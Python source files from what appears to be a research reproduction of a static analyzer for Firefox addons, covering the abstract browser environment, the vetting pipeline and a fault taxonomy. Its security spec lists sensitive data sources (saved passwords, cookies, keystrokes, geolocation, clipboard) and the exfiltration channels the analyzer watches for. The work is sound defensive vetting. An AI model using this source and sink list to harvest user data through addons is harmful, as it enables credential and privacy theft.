    "console.log": _undefined,
    "prefs.getCharPref": _any_string,
    "prefs.setCharPref": _undefined,
    "history.query": _get_all_logins,
    "window.getSelection": _any_string,
    "element.getAttribute": _any_string,
}

#: Heap effects of browser natives (see builtins.NATIVE_EFFECTS).
BROWSER_EFFECTS: dict[str, frozenset[str]] = {
    "xhr.open": frozenset({"write_this_props"}),
    "xhr.send": frozenset({"read_this_props"}),
    "xhrwrapper.send": frozenset({"read_this_props"}),
    "XHRWrapper": frozenset(),
    "scriptloader.loadSubScript": frozenset({"read_arg_props", "write_arg_props"}),
}
