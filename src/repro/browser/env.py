"""The browser addon environment and the Mozilla-flavored security spec.

``BrowserEnvironment`` plays the role of the paper's JSAI extension: it
pre-allocates the browser object graph (window, content window with its
location — the current browsed URL —, documents, Services, the XHR
constructor), exposes the native stubs of :mod:`repro.browser.stubs`,
and supplies the abstract event object the synthetic event loop hands to
registered handlers.

``mozilla_spec()`` is the "sources, sinks, and APIs considered
interesting by the Mozilla vetting team" configuration of Section 4.1:
URL / key / geolocation / cookie / password / clipboard sources, the
network ``send`` sink with prefix-domain inference, and the script
injection + deprecated APIs.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis import builtins as analysis_builtins
from repro.analysis.environment import NativeImpl
from repro.browser import stubs
from repro.domains import values as values_domain
from repro.domains.objects import AbstractObject, native_object
from repro.domains.state import State
from repro.domains.values import AbstractValue
from repro.ir.nodes import GLOBAL_SCOPE, Var
from repro.signatures.spec import (
    ApiSink,
    CallSource,
    DomainRule,
    NetworkSink,
    PropertySource,
    PropertyWriteSink,
    SecuritySpec,
)


def _props(**values: AbstractValue) -> tuple[tuple[str, AbstractValue], ...]:
    return tuple(sorted(values.items()))


def _addr(address: int) -> AbstractValue:
    return values_domain.from_addresses(address)


@dataclass
class BrowserEnvironment:
    """The Firefox-addon hosting environment for the base analysis."""

    natives: dict[str, NativeImpl] = field(
        default_factory=lambda: dict(stubs.BROWSER_NATIVES)
    )

    def setup(self, state: State, interpreter) -> None:
        heap = state.heap

        def method(address: int, tag: str) -> AbstractValue:
            heap.allocate(address, native_object(tag, kind="function"))
            return _addr(address)

        add_listener = method(stubs.ADD_EVENT_LISTENER, "window.addEventListener")
        remove_listener = method(
            stubs.REMOVE_EVENT_LISTENER, "window.removeEventListener"
        )
        set_timeout = method(stubs.SET_TIMEOUT, "window.setTimeout")
        set_interval = method(stubs.SET_INTERVAL, "window.setInterval")
        method(stubs.XHR_OPEN, "xhr.open")
        method(stubs.XHR_SEND, "xhr.send")
        method(stubs.XHR_SET_HEADER, "xhr.setRequestHeader")
        method(stubs.XHR_WRAPPER_SEND, "xhrwrapper.send")
        xhr_wrapper = method(stubs.XHR_WRAPPER, "XHRWrapper")
        xhr_ctor = method(stubs.XHR_CONSTRUCTOR, "XMLHttpRequest")
        get_by_id = method(stubs.GET_ELEMENT_BY_ID, "document.getElementById")
        query_selector = method(stubs.QUERY_SELECTOR, "document.querySelector")
        create_element = method(stubs.CREATE_ELEMENT, "document.createElement")
        get_position = method(
            stubs.GET_CURRENT_POSITION, "geolocation.getCurrentPosition"
        )
        load_subscript = method(stubs.LOAD_SUBSCRIPT, "scriptloader.loadSubScript")
        get_all_logins = method(stubs.GET_ALL_LOGINS, "logins.getAllLogins")
        clipboard_get = method(stubs.CLIPBOARD_GET, "clipboard.getData")
        clipboard_set = method(stubs.CLIPBOARD_SET, "clipboard.setData")
        eval_fn = method(stubs.EVAL_FN, "eval")
        alert_fn = method(stubs.ALERT_FN, "alert")
        console_log = method(stubs.CONSOLE_LOG, "console.log")
        get_char_pref = method(stubs.GET_CHAR_PREF, "prefs.getCharPref")
        set_char_pref = method(stubs.SET_CHAR_PREF, "prefs.setCharPref")
        history_query = method(stubs.HISTORY_QUERY, "history.query")
        get_selection = method(stubs.GET_SELECTION, "window.getSelection")
        get_attribute = method(stubs.GET_ATTRIBUTE, "element.getAttribute")

        # --- the browsed page: content window, location, document ---
        heap.allocate(
            stubs.CONTENT_LOCATION,
            AbstractObject(
                kind="object",
                native="location",
                properties=_props(
                    href=values_domain.ANY_STRING,
                    host=values_domain.ANY_STRING,
                    hostname=values_domain.ANY_STRING,
                    pathname=values_domain.ANY_STRING,
                    protocol=values_domain.ANY_STRING,
                    search=values_domain.ANY_STRING,
                ),
            ),
        )
        heap.allocate(
            stubs.CONTENT_DOCUMENT,
            AbstractObject(
                kind="object",
                native="content-document",
                properties=_props(
                    cookie=values_domain.ANY_STRING,
                    title=values_domain.ANY_STRING,
                    location=_addr(stubs.CONTENT_LOCATION),
                    getElementById=get_by_id,
                    querySelector=query_selector,
                    addEventListener=add_listener,
                ),
            ),
        )
        heap.allocate(
            stubs.CONTENT_WINDOW,
            AbstractObject(
                kind="object",
                native="content-window",
                properties=_props(
                    location=_addr(stubs.CONTENT_LOCATION),
                    document=_addr(stubs.CONTENT_DOCUMENT),
                    addEventListener=add_listener,
                    getSelection=get_selection,
                ),
            ),
        )

        # --- geolocation ---
        heap.allocate(
            stubs.GEO_COORDS,
            AbstractObject(
                kind="object",
                native="geocoords",
                properties=_props(
                    latitude=values_domain.ANY_NUMBER,
                    longitude=values_domain.ANY_NUMBER,
                    accuracy=values_domain.ANY_NUMBER,
                ),
            ),
        )
        heap.allocate(
            stubs.GEOPOSITION,
            AbstractObject(
                kind="object",
                native="geoposition",
                properties=_props(
                    coords=_addr(stubs.GEO_COORDS),
                    timestamp=values_domain.ANY_NUMBER,
                ),
            ),
        )
        heap.allocate(
            stubs.GEOLOCATION,
            AbstractObject(
                kind="object",
                native="geolocation",
                properties=_props(getCurrentPosition=get_position,
                                  watchPosition=get_position),
            ),
        )
        heap.allocate(
            stubs.NAVIGATOR,
            AbstractObject(
                kind="object",
                native="navigator",
                properties=_props(
                    geolocation=_addr(stubs.GEOLOCATION),
                    userAgent=values_domain.ANY_STRING,
                ),
            ),
        )

        # --- the event object handlers receive ---
        heap.allocate(
            stubs.EVENT_TARGET,
            AbstractObject(
                kind="object",
                native="element",
                properties=_props(
                    value=values_domain.ANY_STRING,
                    textContent=values_domain.ANY_STRING,
                    addEventListener=add_listener,
                    setAttribute=console_log,
                    getAttribute=get_attribute,
                ),
            ),
        )
        heap.allocate(
            stubs.EVENT,
            AbstractObject(
                kind="object",
                native="event",
                properties=_props(
                    keyCode=values_domain.ANY_NUMBER,
                    charCode=values_domain.ANY_NUMBER,
                    which=values_domain.ANY_NUMBER,
                    key=values_domain.ANY_STRING,
                    ctrlKey=values_domain.ANY_BOOL,
                    shiftKey=values_domain.ANY_BOOL,
                    altKey=values_domain.ANY_BOOL,
                    type=values_domain.ANY_STRING,
                    target=_addr(stubs.EVENT_TARGET),
                    coords=_addr(stubs.GEO_COORDS),
                    preventDefault=console_log,
                ),
            ),
        )

        # --- generic DOM element ---
        heap.allocate(
            stubs.ELEMENT,
            AbstractObject(
                kind="object",
                native="element",
                properties=_props(
                    value=values_domain.ANY_STRING,
                    textContent=values_domain.ANY_STRING,
                    innerHTML=values_domain.ANY_STRING,
                    style=values_domain.UNDEF.join(values_domain.ANY_STRING),
                    addEventListener=add_listener,
                    appendChild=console_log,
                    setAttribute=console_log,
                    getAttribute=get_attribute,
                ),
            ),
        )
        # The element's own properties may be freely assigned by addons.
        heap.drop_singleton(stubs.ELEMENT)

        # --- XPCOM services ---
        heap.allocate(
            stubs.SCRIPTLOADER,
            AbstractObject(
                kind="object",
                native="scriptloader",
                properties=_props(loadSubScript=load_subscript),
            ),
        )
        heap.allocate(
            stubs.LOGIN_MANAGER,
            AbstractObject(
                kind="object",
                native="logins",
                properties=_props(getAllLogins=get_all_logins),
            ),
        )
        heap.allocate(
            stubs.CLIPBOARD,
            AbstractObject(
                kind="object",
                native="clipboard",
                properties=_props(getData=clipboard_get, setData=clipboard_set),
            ),
        )
        heap.allocate(
            stubs.PREFS,
            AbstractObject(
                kind="object",
                native="prefs",
                properties=_props(
                    getCharPref=get_char_pref, setCharPref=set_char_pref
                ),
            ),
        )
        heap.allocate(
            stubs.HISTORY,
            AbstractObject(
                kind="object",
                native="history",
                properties=_props(query=history_query),
            ),
        )
        heap.allocate(
            stubs.SERVICES,
            AbstractObject(
                kind="object",
                native="services",
                properties=_props(
                    scriptloader=_addr(stubs.SCRIPTLOADER),
                    logins=_addr(stubs.LOGIN_MANAGER),
                    clipboard=_addr(stubs.CLIPBOARD),
                    prefs=_addr(stubs.PREFS),
                    history=_addr(stubs.HISTORY),
                ),
            ),
        )
        heap.allocate(
            stubs.CONSOLE,
            AbstractObject(
                kind="object",
                native="console",
                properties=_props(log=console_log, error=console_log),
            ),
        )

        # --- browser chrome ---
        heap.allocate(
            stubs.CURRENT_URI,
            AbstractObject(
                kind="object",
                native="uri",
                properties=_props(
                    spec=values_domain.ANY_STRING,
                    host=values_domain.ANY_STRING,
                ),
            ),
        )
        heap.allocate(
            stubs.GBROWSER,
            AbstractObject(
                kind="object",
                native="gbrowser",
                properties=_props(
                    currentURI=_addr(stubs.CURRENT_URI),
                    addEventListener=add_listener,
                    contentWindow=_addr(stubs.CONTENT_WINDOW),
                    contentDocument=_addr(stubs.CONTENT_DOCUMENT),
                ),
            ),
        )
        heap.allocate(
            stubs.CHROME_LOCATION,
            AbstractObject(
                kind="object",
                native="chrome-location",
                properties=_props(href=values_domain.ANY_STRING),
            ),
        )
        heap.allocate(
            stubs.CHROME_DOCUMENT,
            AbstractObject(
                kind="object",
                native="document",
                properties=_props(
                    getElementById=get_by_id,
                    querySelector=query_selector,
                    createElement=create_element,
                    addEventListener=add_listener,
                    title=values_domain.ANY_STRING,
                ),
            ),
        )
        heap.allocate(
            stubs.WINDOW,
            AbstractObject(
                kind="object",
                native="window",
                properties=_props(
                    document=_addr(stubs.CHROME_DOCUMENT),
                    content=_addr(stubs.CONTENT_WINDOW),
                    gBrowser=_addr(stubs.GBROWSER),
                    navigator=_addr(stubs.NAVIGATOR),
                    location=_addr(stubs.CHROME_LOCATION),
                    addEventListener=add_listener,
                    removeEventListener=remove_listener,
                    setTimeout=set_timeout,
                    setInterval=set_interval,
                    alert=alert_fn,
                ),
            ),
        )

        # --- global bindings ---
        globals_map = {
            "window": _addr(stubs.WINDOW),
            "document": _addr(stubs.CHROME_DOCUMENT),
            "content": _addr(stubs.CONTENT_WINDOW),
            "gBrowser": _addr(stubs.GBROWSER),
            "navigator": _addr(stubs.NAVIGATOR),
            "Services": _addr(stubs.SERVICES),
            "console": _addr(stubs.CONSOLE),
            "XMLHttpRequest": xhr_ctor,
            "XHRWrapper": xhr_wrapper,
            "addEventListener": add_listener,
            "removeEventListener": remove_listener,
            "setTimeout": set_timeout,
            "setInterval": set_interval,
            "eval": eval_fn,
            "alert": alert_fn,
            "this": _addr(stubs.WINDOW),
        }
        for name, value in globals_map.items():
            state.write_var(Var(name, GLOBAL_SCOPE), value)

    def event_value(self, state: State) -> AbstractValue:
        """Handlers receive the shared abstract event object (which also
        carries geolocation fields, covering position callbacks)."""
        return _addr(stubs.EVENT).join(_addr(stubs.GEOPOSITION))

    def global_this(self, state: State) -> AbstractValue:
        return _addr(stubs.WINDOW)


def mozilla_spec() -> SecuritySpec:
    """The default "interesting" sources/sinks/APIs (Section 4.1)."""
    return SecuritySpec(
        sources=[
            PropertySource(
                "url", "location",
                frozenset({"href", "host", "hostname", "pathname", "search"}),
            ),
            PropertySource("url", "uri", frozenset({"spec", "host"})),
            PropertySource(
                "key", "event", frozenset({"keyCode", "charCode", "which", "key"})
            ),
            PropertySource(
                "geoloc", "geocoords", frozenset({"latitude", "longitude"})
            ),
            PropertySource("cookie", "content-document", frozenset({"cookie"})),
            CallSource("password", frozenset({"logins.getAllLogins"})),
            CallSource("clipboard", frozenset({"clipboard.getData"})),
            CallSource("history", frozenset({"history.query"})),
        ],
        sinks=[
            NetworkSink(
                "send",
                rules=(
                    ("xhr.open", DomainRule(kind="arg", arg_index=1)),
                    ("xhr.send", DomainRule(kind="this_prop")),
                    ("xhrwrapper.send", DomainRule(kind="this_prop")),
                    ("XHRWrapper", DomainRule(kind="arg", arg_index=0)),
                ),
            ),
            # Redirect exfiltration: assigning the content location sends
            # whatever is in the URL to that host without any XHR.
            PropertyWriteSink("redirect", "location", frozenset({"href"})),
        ],
        apis=[
            ApiSink("scriptloader", frozenset({"scriptloader.loadSubScript"})),
            ApiSink("eval", frozenset({"eval"})),
            ApiSink("clipboard-write", frozenset({"clipboard.setData"})),
        ],
    )


def install_effects() -> None:
    """Merge the browser natives' heap effects into the shared table the
    read/write-set computation consults."""
    analysis_builtins.NATIVE_EFFECTS.update(stubs.BROWSER_EFFECTS)


install_effects()
