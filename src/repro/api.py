"""The public high-level API: the paper's three-phase pipeline.

- **Phase 1** (:func:`analyze_addon`): parse, lower (with the synthetic
  event loop), and run the base abstract interpretation under the
  browser environment.
- **Phase 2** (:func:`build_addon_pdg`): construct the annotated PDG.
- **Phase 3** (:func:`infer_addon_signature`): infer the security
  signature against a security spec (default: the Mozilla-flavored one).

:func:`vet` runs all three and returns a :class:`VettingReport`, which is
what the CLI and the evaluation harness consume. :func:`diff_vet` is the
*update*-shaped entry: given an approved old version and a new version,
it tries the incremental fast lane (change-surface certificate, see
:mod:`repro.diffvet.incremental`) and otherwise re-analyzes and
classifies the signature change (:mod:`repro.diffvet.diff`).
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from repro.analysis import AnalysisResult, analyze
from repro.browser import BrowserEnvironment, mozilla_spec
from repro.faults import Budget, Degradation, FailureKind
from repro.ir import ProgramIR, lower
from repro.js import node_count, parse, parse_with_recovery
from repro.pdg import PDG, build_pdg
from repro.perf import Counters, PhaseTimes
from repro.signatures import (
    Comparison,
    InferenceDetail,
    SecuritySpec,
    Signature,
    compare,
    widen_detail,
)


def analyze_addon(
    source: str,
    k: int = 1,
    event_loop: bool = True,
    environment=None,
    budget: Budget | None = None,
    salvage: bool = False,
) -> tuple[ProgramIR, AnalysisResult]:
    """Phase 1: frontend + base analysis."""
    program = lower(parse(source), event_loop=event_loop)
    env = environment if environment is not None else BrowserEnvironment()
    return program, analyze(program, env, k=k, budget=budget, salvage=salvage)


def build_addon_pdg(result: AnalysisResult) -> PDG:
    """Phase 2: the annotated PDG."""
    return build_pdg(result)


def infer_addon_signature(
    result: AnalysisResult,
    pdg: PDG,
    spec: SecuritySpec | None = None,
) -> InferenceDetail:
    """Phase 3: signature inference."""
    return infer_detail(result, pdg, spec)


def infer_detail(result, pdg, spec=None) -> InferenceDetail:
    from repro.signatures import infer_signature as run_inference

    return run_inference(result, pdg, spec if spec is not None else mozilla_spec())


@dataclass
class VettingReport:
    """Everything the vetter sees for one addon.

    When the relevance prefilter proved the addon trivially safe
    (``prefiltered=True``), the heavyweight phases never ran:
    ``result`` and ``pdg`` are ``None`` and the signature is empty.
    """

    program: ProgramIR
    result: AnalysisResult | None
    pdg: PDG | None
    detail: InferenceDetail
    ast_nodes: int
    comparison: Comparison | None = None
    #: Call statements whose callee the analysis could not resolve —
    #: worth a manual look (unmodeled APIs or dead code).
    unknown_calls: frozenset[int] = frozenset()
    #: Per-phase wall time of this run (P1 analysis / P2 PDG / P3
    #: inference), measured by :func:`vet`.
    phase_times: PhaseTimes | None = None
    #: Hot-path statistics: the interpreter's fixpoint counters plus
    #: PDG/signature sizes. Pure observability (never affects results).
    counters: Counters = field(default_factory=Counters)
    #: Degradation events (budget trips, skipped statements). When
    #: non-empty the signature has been widened to ⊤ over the spec: it
    #: is sound but deliberately coarse, and must be surfaced as
    #: "degraded" wherever the report is shown.
    degradations: tuple[Degradation, ...] = ()
    #: The sound relevance prefilter (``repro.lint.surface``) proved no
    #: run of the full analysis could emit an entry, so none ran.
    prefiltered: bool = False
    #: The prefilter's full decision (site spans for ``vet --explain``),
    #: when the prefilter ran.
    prefilter_decision: object | None = None
    #: The whole-program pre-analysis (``repro.preanalysis``): computed
    #: property resolution, call graph, pruning decision. ``None`` when
    #: disabled (``--no-preanalysis``).
    preanalysis: object | None = None

    @property
    def degraded(self) -> bool:
        return bool(self.degradations)

    @property
    def signature(self) -> Signature:
        return self.detail.signature

    def render(self) -> str:
        lines = [f"AST nodes: {self.ast_nodes}", "signature:"]
        if self.prefiltered:
            lines.insert(
                0,
                "PREFILTERED (no overlap with the spec surface; "
                "trivially-empty signature, interpreter skipped)",
            )
        if self.degraded:
            lines.insert(0, "DEGRADED (signature widened to a sound ⊤):")
            lines[1:1] = [
                f"  {degradation.render()}" for degradation in self.degradations
            ]
        rendered = self.signature.render()
        lines.extend(
            f"  {line}" for line in (rendered.splitlines() or ["  (empty)"])
        )
        if self.phase_times is not None:
            lines.append(f"timing: {self.phase_times.render()}")
        if self.unknown_calls:
            lines.append(f"unresolved callees at {len(self.unknown_calls)} call site(s)")
        if self.result is not None:
            for tag, sid in sorted(self.result.diagnostics):
                line = self.program.stmts[sid].line
                lines.append(f"diagnostic: {tag} at line {line}")
        if self.comparison is not None:
            lines.append(self.comparison.render())
        return "\n".join(lines)


def infer_signature(source: str, spec: SecuritySpec | None = None, k: int = 1) -> Signature:
    """One-call convenience: addon source -> inferred signature."""
    return vet(source, spec=spec, k=k).signature


def vet(
    source: str,
    manual: Signature | None = None,
    real_extras: frozenset = frozenset(),
    spec: SecuritySpec | None = None,
    k: int = 1,
    budget: Budget | None = None,
    recover: bool = False,
    prefilter: bool = False,
    preanalysis: bool = True,
) -> VettingReport:
    """Run the full pipeline; optionally compare against a manual
    signature (the Table 2 methodology). The report carries per-phase
    wall times and the hot-path counters of this run.

    ``budget`` bounds the base analysis cooperatively (fixpoint steps,
    wall clock, abstract states); a tripped budget *degrades* the run —
    the report comes back ``degraded=True`` with its signature widened
    to a sound ⊤ over the spec — instead of raising. ``recover`` does
    the same for unparseable top-level statements: they are skipped, the
    remainder analyzed, and the report flagged degraded.

    ``prefilter`` turns on the sound relevance prefilter
    (:func:`repro.lint.surface.decide_relevance`): an addon whose
    syntactic surface cannot reach the spec — no shared names, no
    dynamic code, no dynamic property access, no recovery skips — gets
    the trivially-empty signature without running the interpreter. Any
    disqualifier falls back to the full pipeline, so the result is
    bit-identical either way (proven addon-by-addon in
    ``tests/lint/test_prefilter_soundness.py``).

    ``preanalysis`` (on by default; ``--no-preanalysis`` in the CLI)
    runs the flow-insensitive whole-program pre-analysis
    (:mod:`repro.preanalysis`) between parsing and lowering: computed
    property sites with provably-finite key sets stop disqualifying the
    prefilter, unreferenced top-level functions are pruned before the
    interpreter ever sees them (signature-preserving — proven
    bit-identical in ``tests/preanalysis``), and the report gains the
    ``resolved_sites`` / ``residual_dynamic_sites`` / ``pruned_nodes`` /
    ``callgraph_edges`` counters.

    ``source`` may also be a serialized WebExtension bundle (the
    ``repro.webext.loader`` text form produced by ``load_source`` on an
    extension directory): those route through the multi-file pipeline
    with the chrome environment and, unless overridden, the WebExt spec.
    Carrying bundles as plain text keeps every downstream consumer —
    batch runner, vetting service, differential vetting — free of
    special cases.
    """
    from repro.lint.surface import decide_relevance
    from repro.webext.loader import is_bundle_text

    if is_bundle_text(source):
        from repro.webext.pipeline import vet_extension

        return vet_extension(
            source,
            manual=manual,
            real_extras=real_extras,
            spec=spec,
            k=k,
            budget=budget,
            recover=recover,
            prefilter=prefilter,
            preanalysis=preanalysis,
        )

    resolved_spec = spec if spec is not None else mozilla_spec()
    degradations: list[Degradation] = []
    start = time.perf_counter()
    if recover:
        syntax_tree, skipped = parse_with_recovery(source)
        degradations.extend(
            Degradation(
                kind=(
                    FailureKind.UNSUPPORTED_SYNTAX
                    if skip.unsupported
                    else FailureKind.PARSE_ERROR
                ),
                detail=f"skipped top-level statement: {skip.render()}",
            )
            for skip in skipped
        )
    else:
        syntax_tree = parse(source)
    pre = None
    if preanalysis:
        from repro.preanalysis import preanalyze

        pre = preanalyze([syntax_tree], degraded=bool(degradations))
    decision = None
    if prefilter:
        decision = decide_relevance(
            syntax_tree,
            resolved_spec,
            degraded=bool(degradations),
            resolution=pre.resolution if pre is not None else None,
        )
        if not decision.relevant:
            after_parse = time.perf_counter()
            detail = InferenceDetail(
                signature=Signature(), provenance={}, source_statements={}
            )
            comparison = None
            if manual is not None:
                comparison = compare(detail.signature, manual, real_extras)
            counters = Counters()
            counters["prefiltered"] = 1
            if pre is not None:
                counters.update(pre.counters)
            return VettingReport(
                program=lower(syntax_tree, event_loop=True),
                result=None,
                pdg=None,
                detail=detail,
                ast_nodes=node_count(syntax_tree),
                comparison=comparison,
                phase_times=PhaseTimes(
                    p1=after_parse - start, p2=0.0, p3=0.0
                ),
                counters=counters,
                degradations=(),
                prefiltered=True,
                prefilter_decision=decision,
                preanalysis=pre,
            )
    analysis_tree = syntax_tree
    if pre is not None and pre.prune.pruned_nodes:
        # Pruning is signature-preserving (tests/preanalysis proves
        # bit-identity); the original tree still supplies ast_nodes so
        # the size metric stays the addon's, not the pruned residue's.
        analysis_tree = pre.programs[0]
    program = lower(analysis_tree, event_loop=True)
    result = analyze(program, BrowserEnvironment(), k=k, budget=budget, salvage=True)
    degradations.extend(result.degradations)
    after_p1 = time.perf_counter()
    pdg = build_pdg(result)
    after_p2 = time.perf_counter()
    detail = infer_detail(result, pdg, resolved_spec)
    if degradations:
        detail = widen_detail(detail, resolved_spec)
    after_p3 = time.perf_counter()
    comparison = None
    if manual is not None:
        comparison = compare(detail.signature, manual, real_extras)
    counters = Counters(result.counters)
    counters["pdg_edges"] = len(pdg.edges)
    counters["pdg_cyclic_statements"] = len(pdg.cyclic)
    counters["signature_entries"] = len(detail.signature.entries)
    if degradations:
        counters["degradations"] = len(degradations)
    if pre is not None:
        counters.update(pre.counters)
    return VettingReport(
        program=program,
        result=result,
        pdg=pdg,
        detail=detail,
        ast_nodes=node_count(syntax_tree),
        comparison=comparison,
        unknown_calls=result.unknown_callees,
        phase_times=PhaseTimes(
            p1=after_p1 - start,
            p2=after_p2 - after_p1,
            p3=after_p3 - after_p2,
        ),
        counters=counters,
        degradations=tuple(degradations),
        prefilter_decision=decision,
        preanalysis=pre,
    )


# ----------------------------------------------------------------------
# Differential vetting


@dataclass
class DiffVetReport:
    """Everything the vetter sees for one addon *update*.

    ``verdict`` is the queue-routing decision:

    - ``approve-fast`` — the change-surface certificate proved the
      signature unchanged; the new version was never re-analyzed
      (``new_report`` is ``None``) and the approved signature stands;
    - ``approve`` — re-analyzed; nothing widened, nothing new: the
      previous approval still covers every claim;
    - ``re-review`` — re-analyzed; at least one entry widened or
      appeared, listed in ``diff`` with a witness path per new/widened
      flow in ``witnesses``.
    """

    certificate: object  # repro.diffvet.incremental.ChangeCertificate
    verdict: str
    old_signature: Signature
    new_signature: Signature
    diff: object  # repro.diffvet.diff.SignatureDiff
    witnesses: list = field(default_factory=list)
    old_report: VettingReport | None = None
    new_report: VettingReport | None = None

    @property
    def fast_lane(self) -> bool:
        return self.verdict == "approve-fast"

    def render(self) -> str:
        lines = [f"differential vetting: {self.verdict}"]
        lines.append(f"certificate: {self.certificate.render()}")
        lines.append(self.diff.render())
        for witness in self.witnesses:
            lines.append(witness.render())
        return "\n".join(lines)


def diff_vet(
    old_source: str,
    new_source: str,
    spec: SecuritySpec | None = None,
    k: int = 1,
    budget: Budget | None = None,
    recover: bool = False,
    old_signature: Signature | None = None,
) -> DiffVetReport:
    """Vet an addon update against its approved previous version.

    Tries the incremental fast lane first: when the change-surface
    certificate (:func:`repro.diffvet.incremental.certify_unchanged`)
    holds, ``signature(new) == signature(old)`` is known without
    re-running the interpreter, and the approved signature is served
    (``approve-fast``). Otherwise the new version goes through the full
    pipeline and the two signatures are classified entry-by-entry under
    the lattice order (``approve`` / ``re-review``), with an
    ``explain_flow`` witness for every widened or new flow.

    ``old_signature`` short-circuits re-deriving the approved signature
    (a vetting service has it on file — e.g. in a
    :class:`repro.diffvet.store.VersionStore` chain); without it, the
    old version is vetted once here to establish the baseline.
    """
    from repro.diffvet.diff import diff_signatures
    from repro.diffvet.incremental import ChangeCertificate, certify_unchanged
    from repro.signatures.explain import explain_flow
    from repro.webext.loader import is_bundle_text

    if is_bundle_text(old_source) or is_bundle_text(new_source):
        # Multi-file extension update: the change-surface certificate is
        # defined over single JS files, so the fast lane is refused and
        # both versions take the full (webext-routed) pipeline. The
        # webext default spec applies when none was given.
        from repro.browser.chrome import webext_spec

        resolved_spec = spec if spec is not None else webext_spec()
        certificate = ChangeCertificate(
            certified=False, reason="refused:webext-bundle"
        )
    else:
        resolved_spec = spec if spec is not None else mozilla_spec()
        certificate = certify_unchanged(
            old_source, new_source, resolved_spec, recover=recover
        )
    old_report = None
    if old_signature is None:
        old_report = vet(
            old_source, spec=spec, k=k, budget=budget, recover=recover
        )
        old_signature = old_report.signature
    if certificate.certified:
        return DiffVetReport(
            certificate=certificate,
            verdict="approve-fast",
            old_signature=old_signature,
            new_signature=old_signature,
            diff=diff_signatures(old_signature, old_signature, resolved_spec),
            old_report=old_report,
        )
    new_report = vet(new_source, spec=spec, k=k, budget=budget, recover=recover)
    diff = diff_signatures(old_signature, new_report.signature, resolved_spec)
    witnesses = []
    if new_report.pdg is not None:
        for entry in diff.review_flows:
            witness = explain_flow(new_report.pdg, new_report.detail, entry)
            if witness is not None:
                witnesses.append(witness)
    return DiffVetReport(
        certificate=certificate,
        verdict=diff.verdict,
        old_signature=old_signature,
        new_signature=new_report.signature,
        diff=diff,
        witnesses=witnesses,
        old_report=old_report,
        new_report=new_report,
    )
