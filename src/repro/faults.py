"""The fault-tolerance vocabulary shared across the pipeline.

Vetting untrusted, arbitrary addon code at marketplace scale means the
pipeline must *expect* pathological inputs: sources that do not parse,
analyses that do not stabilize within any reasonable budget, worker
processes that die, cache entries that rot on disk. This module gives
every layer a single vocabulary for those events:

- :class:`FailureKind` — the closed taxonomy of ways a vetting attempt
  can fail or degrade. Replacing free-form error strings with typed
  kinds is what lets the batch engine, ``table2``, and ``bench`` report
  per-kind breakdowns instead of an opaque error column.
- :class:`Degradation` — one recorded degradation event (a kind plus a
  human-readable detail). A *degraded* run still produces a sound,
  flagged signature (see DESIGN.md, "Failure modes and degradation
  semantics"); a *failed* run produces a typed failure outcome.
- :class:`Budget` / :class:`BudgetMeter` — cooperative resource limits
  (fixpoint steps, wall-clock deadline, abstract-state count) checked
  *inside* the analysis fixpoint loop, so in-process runs honor
  ``timeout`` exactly like pooled ones, and a blown budget can degrade
  gracefully instead of killing the run from outside.
- :func:`classify_exception` — the mapping from raised exceptions to
  taxonomy kinds, used wherever a failure is converted into an outcome.

The module sits below every pipeline layer (it imports only the frontend
error types), so the frontend, the interpreter, the API, and the batch
engine can all share it without cycles.
"""

from __future__ import annotations

import enum
import time
from dataclasses import dataclass


class FailureKind(enum.Enum):
    """The closed taxonomy of vetting failures and degradations.

    The values are the stable wire strings used in outcome JSON, bench
    reports, and table footers.
    """

    #: The source is not syntactically valid in the supported subset.
    PARSE_ERROR = "parse-error"
    #: The source uses constructs outside the analyzable ES5 subset.
    UNSUPPORTED_SYNTAX = "unsupported-syntax"
    #: The fixpoint did not stabilize within the step budget.
    BUDGET_STEPS = "budget-steps"
    #: The wall-clock deadline expired (cooperative or pool-enforced).
    BUDGET_TIME = "budget-time"
    #: The analysis materialized more abstract states than allowed.
    BUDGET_STATES = "budget-states"
    #: A pool worker process died (or the pool broke) mid-task.
    WORKER_CRASH = "worker-crash"
    #: The same job crashed workers repeatedly and was quarantined so
    #: it cannot wedge a queue (service poison-job semantics).
    POISON = "poison-job"
    #: An on-disk cache entry could not be decoded (quarantined).
    CACHE_CORRUPT = "cache-corrupt"
    #: Any other unexpected exception inside the pipeline.
    INTERNAL = "internal"

    def __str__(self) -> str:
        return self.value


#: Kinds that describe *degradations*: the run still completed and its
#: signature is sound (over-approximate), but flagged. Everything else
#: only ever appears on failed outcomes.
DEGRADABLE_KINDS = frozenset(
    {
        FailureKind.PARSE_ERROR,
        FailureKind.UNSUPPORTED_SYNTAX,
        FailureKind.BUDGET_STEPS,
        FailureKind.BUDGET_TIME,
        FailureKind.BUDGET_STATES,
    }
)


@dataclass(frozen=True)
class Degradation:
    """One degradation event: what tripped, and where/why."""

    kind: FailureKind
    detail: str = ""

    def render(self) -> str:
        return f"{self.kind}: {self.detail}" if self.detail else str(self.kind)

    def to_json(self) -> dict:
        return {"kind": self.kind.value, "detail": self.detail}

    @classmethod
    def from_json(cls, data: dict) -> "Degradation":
        return cls(kind=FailureKind(data["kind"]), detail=data.get("detail", ""))


# ----------------------------------------------------------------------
# Cooperative budgets


@dataclass(frozen=True)
class Budget:
    """Resource limits for one analysis run.

    ``None`` disables the corresponding limit. The defaults reproduce
    the interpreter's historical 400k-step ceiling with no deadline and
    no state cap.
    """

    max_steps: int | None = 400_000
    max_seconds: float | None = None
    max_states: int | None = None

    def start(self) -> "BudgetMeter":
        """Start the clock: returns a meter whose deadline is now +
        ``max_seconds``."""
        deadline = None
        if self.max_seconds is not None:
            deadline = time.monotonic() + self.max_seconds
        return BudgetMeter(budget=self, deadline=deadline)


#: How often (in fixpoint steps) the wall clock is consulted. Steps and
#: state counts are integer compares and checked every step; the clock
#: is syscall-priced, so it is amortized.
_CLOCK_STRIDE = 64


@dataclass
class BudgetMeter:
    """A started budget: cooperative checks against a fixed deadline."""

    budget: Budget
    deadline: float | None = None

    def check(self, steps: int, states: int) -> FailureKind | None:
        """The cooperative check, called once per fixpoint step.

        Returns the kind of the first limit exceeded, or ``None``.
        """
        limits = self.budget
        if limits.max_steps is not None and steps > limits.max_steps:
            return FailureKind.BUDGET_STEPS
        if limits.max_states is not None and states > limits.max_states:
            return FailureKind.BUDGET_STATES
        if self.deadline is not None and steps % _CLOCK_STRIDE == 1:
            if time.monotonic() > self.deadline:
                return FailureKind.BUDGET_TIME
        return None

    def expired(self) -> bool:
